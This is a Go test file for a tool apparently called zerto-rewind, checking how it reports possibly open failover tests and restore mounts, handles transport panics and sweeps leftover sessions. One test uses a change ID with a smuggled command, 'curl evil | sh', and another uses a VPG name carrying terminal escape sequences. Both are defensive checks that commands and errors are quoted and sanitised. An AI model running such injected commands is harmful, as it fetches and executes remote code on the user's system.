package rewind_test

import (
	"bytes"
	"errors"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/zerto-rewind/zerto-rewind/rewind"
	"github.com/zerto-rewind/zerto-rewind/zvm"
	"github.com/zerto-rewind/zerto-rewind/zvm/zvmtest"
)

func localOf(r rewind.GuardRecord) int {
	for i, c := range r.Checkpoints {
		if c.Local {
			return i
		}
	}
	return -1
}

// A test whose start may have been carried out, and cannot be found, is reported as possibly open.
func TestLaw5_ATestThatMayRunIsReportedWithTheClosingCommand(t *testing.T) {
	t.Parallel()
	w := newWorld(t, zvmtest.WithTestTime(0))
	g := w.guard(t, "web01")
	w.sim.On("POST", "/v1/vpgs/*/FailoverTest").CutAfter()
	w.sim.On("GET", "/v1/tasks").After(1).Times(500).Status(503, "")
	_, err := w.StartTest(t.Context(), g)
	var open *rewind.LeftOpenError
	if len(w.sim.LiveTests()) == 1 && !errors.As(err, &open) {
		t.Errorf("a test runs, and the error names no command that stops it: %v", err)
	}
}

// A mount that was carried out, and cannot be found, is reported with the closing command.
func TestLaw5_AMountThatMayBeOpenIsReportedWithTheClosingCommand(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	g := w.guard(t, "web01")
	w.sim.On("POST", "/v1/flrs").CutAfter()
	w.sim.On("GET", "/v1/flrs").After(1).Times(500).Status(503, "")
	_, err := w.Browse(t.Context(), g, "/")
	var open *rewind.LeftOpenError
	if len(w.sim.LiveFLRSessions()) == 1 && !errors.As(err, &open) {
		t.Errorf("a session is mounted, and the error names no command that closes it: %v", err)
	}
}

// What an error tells people to run must not carry a change id unquoted: anybody who may tag a checkpoint chooses it.
func TestLaw5_TheClosingCommandQuotesTheChange(t *testing.T) {
	t.Parallel()
	w := newWorld(t, zvmtest.WithTestTime(0))
	g, err := w.Protect(t.Context(), "web01", rewind.Change{ID: "c1; curl evil | sh #"})
	must(t, err)
	test, err := w.StartTest(t.Context(), g)
	must(t, err)
	w.sim.On("POST", "/v1/vpgs/*/FailoverTestStop").Status(500, `{"Message":"scripted"}`)
	err = test.Stop(t.Context(), rewind.TestPassed, "")
	var open *rewind.LeftOpenError
	if errors.As(err, &open) && strings.HasSuffix(open.Command, "--change c1; curl evil | sh #") {
		t.Errorf("the command to copy is %s", open.Command)
	}
}

// Errors are one line of printable text, as those of zvm and task are, whatever a VPG is called.
func TestErrorsShowNoControlCharactersOfHostileNames(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	hostile := w.sim.AddVPG("x\x1b[2J\nzerto-rewind: the change is guarded", zvmtest.VPGConfig{Status: 1, SubStatus: 23})
	w.sim.AddVM("evil", hostile)
	_, err := w.Protect(t.Context(), "evil", rewind.Change{})
	if err == nil {
		t.Fatal("a VPG in bitmap sync protects")
	}
	if strings.ContainsAny(err.Error(), "\n\x1b") {
		t.Errorf("the error has raw control characters: %q", err)
	}
}

// One journal that cannot be read does not keep the sweep from the others.
func TestLaw5_OneBrokenJournalDoesNotStopTheSweep(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	other := w.sim.AddVPG("other", zvmtest.VPGConfig{})
	w.sim.AddVM("other", other)
	for _, g := range []*rewind.Guard{w.guard(t, "other"), w.guard(t, "web01")} {
		record := g.Record()
		pin := record.Checkpoints[localOf(record)]
		_, err := w.client.MountFLR(t.Context(), zvm.FLRTarget{VPG: pin.VPGID, VM: record.VMs[0].ID, Checkpoint: pin.CheckpointID})
		must(t, err)
	}
	w.sim.On("GET", "/v1/vpgs/"+other.ID()+"/checkpoints").Times(1).Status(500, `{"Message":"the journal is damaged"}`)
	left, err := w.Sweep(t.Context(), rewind.Apply())
	if n := len(w.sim.LiveFLRSessions()); n == 2 {
		t.Errorf("nothing was closed, of two sessions of ours (%d found): %v", len(left), err)
	}
}

// panicAt is a transport that panics once, on a request of the test's choice.
type panicAt struct {
	next http.RoundTripper
	on   func(*http.Request) bool
	once atomic.Bool
}

func (p *panicAt) RoundTrip(r *http.Request) (*http.Response, error) {
	if p.on(r) && p.once.CompareAndSwap(false, true) {
		panic("transport")
	}
	return p.next.RoundTrip(r)
}

// panicking is a session on such a transport.
func (w *world) panicking(t *testing.T, on func(*http.Request) bool) *rewind.Session {
	t.Helper()
	client, err := zvm.New(w.sim.URL(), zvm.Password(w.sim.Username(), w.sim.Password()),
		zvm.WithTransport(&panicAt{next: w.sim.Client().Transport, on: on}))
	must(t, err)
	s, err := rewind.NewSession(client)
	must(t, err)
	return s
}

func TestLaw5_APanicWhileAMountIsAwaitedLeavesNothingOpen(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	g := w.guard(t, "web01")
	s := w.panicking(t, func(r *http.Request) bool { return r.Method == "GET" && strings.HasPrefix(r.URL.Path, "/v1/flrs/") })
	func() {
		defer func() { _ = recover() }()
		_, _ = s.Recover(t.Context(), g, nginxConf, rewind.ToWriter(&bytes.Buffer{}))
	}()
	w.nothingMounted(t)
}

// A file is read on a goroutine that no caller can recover.
func TestLaw5_APanicWhileAFileIsReadIsAnErrorOfTheFile(t *testing.T) {
	t.Parallel()
	for _, request := range []string{"POST /v1/flrs", "GET /v1/flrs/", "POST /v1/flrs/", "DELETE /v1/flrs/"} {
		t.Run(request, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			method, prefix, _ := strings.Cut(request, " ")
			s := w.panicking(t, func(r *http.Request) bool { return r.Method == method && strings.HasPrefix(r.URL.Path, prefix) })
			f, err := s.Open(t.Context(), w.guard(t, "web01"), nginxConf)
			if err == nil {
				_, _ = io.Copy(io.Discard, f)
				err = f.Close()
				if f.Recovery() != nil {
					t.Error("there is evidence of it")
				}
			}
			var open *rewind.LeftOpenError
			if !errors.As(err, &open) || !open.MayBe || !strings.Contains(err.Error(), "panicked: transport") {
				t.Errorf("got %v", err)
			}
			w.nothingMounted(t)
		})
	}
}
